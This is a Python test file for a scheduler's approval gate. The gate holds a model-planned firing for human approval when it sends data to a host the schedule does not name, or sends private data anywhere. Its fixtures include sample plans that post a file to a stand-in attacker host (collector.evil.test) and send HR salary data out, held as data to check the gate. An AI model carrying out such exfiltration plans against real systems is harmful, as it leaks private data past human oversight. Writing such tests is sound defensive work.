"""A schedule's standing approval to send says where to, and never sends private data out on its own (red-team
review: a schedule allowed `external_transmission` let every firing's plan, planned over the day's data, send
private data to any host with no human).

A schedule that allows an outbound class names its hosts (`--host`, journaled in its stream); a firing's plan that
reaches another host, or sends private data anywhere, waits for a human with a sentence saying which host and why;
internal data to a named host runs as before. A schedule journaled before hosts existed still loads, and lets its
firings reach no host without a human. Every run here replays byte for byte.
"""

from __future__ import annotations

import json
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from alicorn.anvil.decide import decide, plan_context
from alicorn.anvil.facts import Facts
from alicorn.anvil.labels import DataLabels
from alicorn.anvil.policy import compile_policies, default_policy_text
from alicorn.anvil.rights import MINIMAL_AGENT_RIGHTS, Subject
from alicorn.anvil.risk import assess
from alicorn.anvil.terms import TriggerRecord
from alicorn.app import App
from alicorn.core.conversation import run_id_for
from alicorn.journal.events import Draft
from alicorn.journal.sqlite import SQLiteStore
from alicorn.runtime.state import RunState
from alicorn.schedule.allowance import allowance_of
from alicorn.schedule.authority import Authority
from alicorn.schedule.book import add_schedule, load
from alicorn.schedule.errors import ScheduleError
from alicorn.schedule.rules import parse_cron
from alicorn.schedule.scheduler import Scheduler
from alicorn.schedule.state import INDEX_STREAM, stream_of
from alicorn.testing.people import act_as, enrol
from tests.anvil.support import node, plan, ref, registry, replays
from tests.cli._support import assert_clean, fast_invocations, invoke
from tests.schedule.support import JumpClock, RecordingSubmitter, spec

SID = "sch-digest"
LABELS = DataLabels(private=("hr/**",))
#: A firing's plans, as a model might plan them over the day's data: read a file, send it somewhere.
INTERNAL_TO_PARTNER = plan([node("load", "t.read", path="alarms.csv"),
                            node("send", "t.send", url="https://api.example.com/in", payload=ref("load"))])  # fmt: skip
INTERNAL_TO_ELSEWHERE = plan([node("load", "t.read", path="alarms.csv"),
                              node("send", "t.send", url="https://collector.evil.test/x",
                                   payload=ref("load"))])  # fmt: skip
PRIVATE_TO_PARTNER = plan([node("load", "t.read", path="hr/salaries.csv"),
                           node("send", "t.send", url="https://api.example.com/in", payload=ref("load"))])  # fmt: skip


def _home(tmp_path: Path, hosts: tuple[str, ...] = ("api.example.com",), *, old: bool = False) -> tuple[App, Any]:
    """A home where ann (an approver) scheduled a digest allowing external_transmission to `hosts` (`old`: journaled
    as before hosts existed, without the field), and one slot of it fired. Returns the app and the op counter."""
    home = tmp_path / "home"
    home.mkdir(parents=True, exist_ok=True)
    calls: Counter[str] = Counter()
    app = App(home, SQLiteStore(home / "journal.db"), registry(calls))
    enrol(app, "ann")
    clock = JumpClock(datetime(2026, 11, 30, 7, 59, 30, tzinfo=UTC))
    wanted = spec(request="send the alarms digest", allow=("external_transmission",), hosts=hosts,
                  rule=parse_cron("0 8 * * *"))  # fmt: skip
    if old:
        record = wanted.model_dump(mode="json")
        del record["hosts"]
        index = Draft("schedule.created", clock.now(), {"id": SID, "project": "default"})
        app.store.append(INDEX_STREAM, [index], expect=app.store.last_seq(INDEX_STREAM))
        data = {"id": SID, "spec": record, "by": "human:ann", "cursor": "2026-11-30T07:59:30Z"}
        app.store.append(stream_of(SID), [Draft("schedule.added", clock.now(), data)], expect=0)
    else:
        add_schedule(app.store, wanted, clock, authority=Authority.from_app(app), schedule_id=SID)
    clock.jump(seconds=35)
    assert Scheduler(app.store, RecordingSubmitter(), clock).tick().fired == [f"{SID}@20261130T080000Z"]
    return app, calls


_runs = iter(range(1, 1000))


def _fire(app: App, tmp_path: Path, p: Any) -> RunState:
    """A run of the firing's conversation, proposed by the planner agent, under data labels naming hr/** private."""
    firing = next(e for e in app.store.read(stream_of(SID)) if e.kind == "schedule.fired")
    record = TriggerRecord(schedule=SID, slot=firing.data["slot"], fired_at=firing.data["fired_at"])
    terms = app.anvil.terms("agent:planner", provenance="trigger", channel="schedule")
    terms = terms.model_copy(update={"trigger": record, "labels": LABELS})
    app.anvil.prepare(terms)
    run_id = run_id_for(firing.data["conversation"], next(_runs))
    return app.executor(tmp_path).start(p, terms=terms, run_id=run_id)


def _checks(app: App, run: RunState) -> list[dict[str, Any]]:
    return [e.data for e in app.store.read(run.run_id) if e.kind == "anvil.check"]


def test_internal_data_to_a_host_the_schedule_names_runs_without_a_human(tmp_path: Path) -> None:
    app, calls = _home(tmp_path)
    run = _fire(app, tmp_path, INTERNAL_TO_PARTNER)
    assert run.status == "succeeded" and calls["send"] == 1
    send = next(c for c in _checks(app, run) if c["operation"] == "t.send")
    assert "permit-schedule-allowed" in send["rules"] and "reaching only api.example.com" in send["sentence"]
    context = send["request"]["context"]
    assert (context["schedule_hosts"], context["hosts_beyond_schedule"]) == (["api.example.com"], [])
    inputs = next(e for e in app.store.read(run.run_id) if e.kind == "anvil.inputs")
    assert inputs.data["trigger_allowance"]["hosts"] == ["api.example.com"]  # journaled: replay reads it there
    replays(app.store, run.run_id, app.registry)


def test_a_pattern_names_a_domain(tmp_path: Path) -> None:
    app, calls = _home(tmp_path, hosts=("*.example.com",))
    assert _fire(app, tmp_path, INTERNAL_TO_PARTNER).status == "succeeded" and calls["send"] == 1


def test_a_host_the_schedule_does_not_name_waits_for_a_human_and_the_sentence_names_it(tmp_path: Path) -> None:
    app, calls = _home(tmp_path)
    run = _fire(app, tmp_path, INTERNAL_TO_ELSEWHERE)
    assert run.status == "awaiting_approval" and calls["send"] == 0
    assert "schedule-destinations-need-human" in run.awaiting["rules"]
    said = " ".join(run.awaiting["reasons"])
    assert (
        "the plan reaches collector.evil.test, and schedule sch-digest lets its firings reach api.example.com" in said
    )
    assert "`alicorn approve RUN`), or the schedule is added again with --host collector.evil.test" in said
    context = _checks(app, run)[0]["request"]["context"]
    assert context["hosts_beyond_schedule"] == ["collector.evil.test"]
    replays(app.store, run.run_id, app.registry)


def test_private_data_to_a_named_host_waits_for_a_human_whatever_the_schedule_allows(tmp_path: Path) -> None:
    app, calls = _home(tmp_path)
    run = _fire(app, tmp_path, PRIVATE_TO_PARTNER)
    assert run.status == "awaiting_approval" and calls["send"] == 0
    assert "schedule-destinations-need-human" in run.awaiting["rules"]
    said = " ".join(run.awaiting["reasons"])
    assert (
        "the plan sends private data to api.example.com, and a schedule never sends private data out on its own" in said
    )
    assert "a person decides each time" in said
    replays(app.store, run.run_id, app.registry)


def test_a_schedule_journaled_before_hosts_existed_loads_and_lets_its_firings_reach_no_host(tmp_path: Path) -> None:
    app, calls = _home(tmp_path, old=True)
    added = next(e for e in app.store.read(stream_of(SID)) if e.kind == "schedule.added")
    assert "hosts" not in added.data["spec"]  # the record as it was journaled before
    state = load(app.store, SID)
    assert state.require_spec().hosts == () and state.require_spec().allow[-1] == "external_transmission"
    run = _fire(app, tmp_path, INTERNAL_TO_PARTNER)
    assert run.status == "awaiting_approval" and calls["send"] == 0
    assert "lets its firings reach no host without a human" in " ".join(run.awaiting["reasons"])
    inputs = next(e for e in app.store.read(run.run_id) if e.kind == "anvil.inputs")
    assert inputs.data["trigger_allowance"]["hosts"] == []
    replays(app.store, run.run_id, app.registry)
    # a plan that reaches no host still does what the old schedule allows
    assert _fire(app, tmp_path, plan([node("load", "t.read", path="alarms.csv")])).status == "succeeded"


def test_the_allowance_reads_the_hosts_from_the_schedules_stream(tmp_path: Path) -> None:
    app, _ = _home(tmp_path, hosts=("API.Example.com ", "*.example.org"))
    firing = next(e for e in app.store.read(stream_of(SID)) if e.kind == "schedule.fired")
    record = TriggerRecord(schedule=SID, slot=firing.data["slot"], fired_at=firing.data["fired_at"])
    run_id = run_id_for(firing.data["conversation"], 1)
    allowance = allowance_of(app.store, record, "default", Authority.from_app(app), run_id)
    assert allowance.hosts == ("*.example.org", "api.example.com")
    forged = record.model_copy(update={"slot": "2026-12-01T08:00:00Z"})
    assert allowance_of(app.store, forged, "default", Authority.from_app(app), run_id).to_json()["hosts"] == []


# ------------------------------------------------------------------------------------------ adding a schedule


def test_adding_a_schedule_that_sends_without_naming_a_host_is_refused(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    app = App(home, SQLiteStore(home / "journal.db"), registry())
    enrol(app, "ann")
    sends = spec(allow=("external_transmission",))
    with pytest.raises(
        ScheduleError, match=r"^--host is missing: a schedule that allows external_transmission .* add --host"
    ):
        add_schedule(app.store, sends, JumpClock(), authority=Authority.from_app(app), schedule_id="sch-x")
    assert app.store.read(stream_of("sch-x")) == [] and app.store.read(INDEX_STREAM) == []
    # a schedule that only looks or writes locally needs no host
    add_schedule(app.store, spec(allow=("local_write",)), JumpClock(), authority=Authority.from_app(app))


@pytest.mark.parametrize(
    ("hosts", "said"),
    [
        (["https://api.example.com/in"], "not a host name; give the host alone"),
        (["*"], "would let the firings send to every host"),
        (["*.*"], "would let the firings send to every host"),
        ([" "], "names no host"),
    ],
)
def test_the_command_line_refuses_what_is_not_a_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hosts: list[str], said: str
) -> None:
    fast_invocations(monkeypatch)
    act_as(monkeypatch, "dana")  # the OS user: this new home's first admin
    home = tmp_path / "home"
    args = [a for h in hosts for a in ("--host", h)]
    result = invoke(home, "schedule", "add", "send the digest", "--cron", "0 8 * * *",
                    "--allow", "external_transmission", *args)  # fmt: skip
    assert_clean(result)
    assert result.exit_code == 1 and "--host" in result.output and said in result.output, result.output
    assert json.loads(invoke(home, "schedule", "list", "--json").output)["schedules"] == []


def test_the_command_line_needs_a_host_to_send_and_shows_the_hosts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fast_invocations(monkeypatch)
    act_as(monkeypatch, "dana")
    home = tmp_path / "home"
    assert invoke(home, "people", "add", "dana", "--role", "admin").exit_code == 0
    refused = invoke(home, "schedule", "add", "send the digest", "--cron", "0 8 * * *",
                     "--allow", "external_transmission")  # fmt: skip
    assert_clean(refused)
    assert refused.exit_code == 1 and "add --host HOST for each host its firings may send to" in refused.output
    assert json.loads(invoke(home, "schedule", "list", "--json").output)["schedules"] == []
    added = invoke(home, "schedule", "add", "send the digest", "--cron", "0 8 * * *", "--allow",
                   "external_transmission", "--host", "api.example.com", "--host", "*.partner.example",
                   "--json")  # fmt: skip
    assert added.exit_code == 0, added.output
    sid = json.loads(added.output)["id"]
    assert json.loads(added.output)["hosts"] == ["*.partner.example", "api.example.com"]
    shown = invoke(home, "schedule", "show", sid)
    assert "each firing may reach without a human: *.partner.example, api.example.com" in shown.output


# ------------------------------------------------------------------------------------------ the decision, pure


def _facts(allowance: dict[str, Any]) -> Facts:
    p = INTERNAL_TO_PARTNER
    risk = assess(p, registry(), LABELS)
    subject = Subject("agent:planner", "agent", True, MINIMAL_AGENT_RIGHTS, ("planner",), 0, "standard", 1)
    trigger = {"schedule": SID, "slot": "2026-11-30T08:00:00Z", "fired_at": "2026-11-30T08:00:05Z"}
    return Facts(p.plan_hash(), p.goal_hash, "default", risk, subject, provenance="trigger", channel="schedule",
                 trigger=trigger, allowance=allowance)  # fmt: skip


def test_an_allowance_journaled_before_hosts_keeps_its_requests_and_allows_no_host_under_this_policy() -> None:
    """A run recorded before hosts existed replays with its own journaled policy and requests unchanged; under the
    policy now, the same allowance lets its firing reach no host without a human."""
    before = {"schedule": SID, "effects": ["none", "read", "external_transmission"], "approved_by": "human:ann"}
    facts = _facts(before)
    context = plan_context(facts)
    assert "schedule_hosts" not in context and "hosts_beyond_schedule" not in context
    assert decide(compile_policies(default_policy_text()), facts).decision == "needs_approval"
    now = _facts({**before, "hosts": ["api.example.com"]})
    assert decide(compile_policies(default_policy_text()), now).decision == "allow"


#: The schedule rule as it was before hosts existed (a recorded run replays with the policy text it journaled).
RULES_BEFORE_HOSTS = """
@id("permit-schedule-allowed")
permit (principal, action, resource)
when {
  resource.provenance == "trigger" && context has schedule_allows &&
  context.schedule_allows.containsAll(context.plan_effects)
};
"""


def test_a_run_recorded_before_hosts_existed_replays_with_its_words(tmp_path: Path) -> None:
    """Its allowance has no `hosts` and its policy the old rule: its requests, decisions and sentences regenerate
    byte for byte (no host fields in the context, no words about hosts in the sentence)."""
    from alicorn.anvil.agents import PermissionRegistry
    from alicorn.anvil.gate import LiveGate
    from alicorn.journal.memory import InMemoryStore
    from alicorn.runtime.executor import Executor, RunEnvironment

    store, reg = InMemoryStore(), registry()
    before = {"schedule": SID, "effects": ["none", "read", "external_transmission"], "approved_by": "human:ann",
              "reason": f"schedule {SID} is active"}  # fmt: skip
    gate = LiveGate(store, compile_policies(RULES_BEFORE_HOSTS, "before hosts"), PermissionRegistry(store),
                    trigger_allowance=lambda terms, run_id: dict(before))  # fmt: skip
    executor = Executor(store, reg, RunEnvironment(tmp_path / "ws", tmp_path), gate=gate)
    record = TriggerRecord(schedule=SID, slot="2026-11-30T08:00:00Z", fired_at="2026-11-30T08:00:05Z")
    terms = executor_terms(record)
    run = executor.start(INTERNAL_TO_ELSEWHERE, terms=terms, run_id="run-20261130-0123456789ab-1")
    assert run.status == "succeeded"
    checks = [e.data for e in store.read(run.run_id) if e.kind == "anvil.check"]
    assert all("schedule_hosts" not in c["request"]["context"] for c in checks)
    assert checks[0]["sentence"].endswith("and the plan has only read and external_transmission. "
                                          "[rules: permit-schedule-allowed]")  # fmt: skip
    replays(store, run.run_id, reg)


def executor_terms(record: TriggerRecord) -> Any:
    from alicorn.anvil.terms import RunTerms

    return RunTerms(proposed_by="human:ann", provenance="trigger", channel="schedule", trigger=record, labels=LABELS)
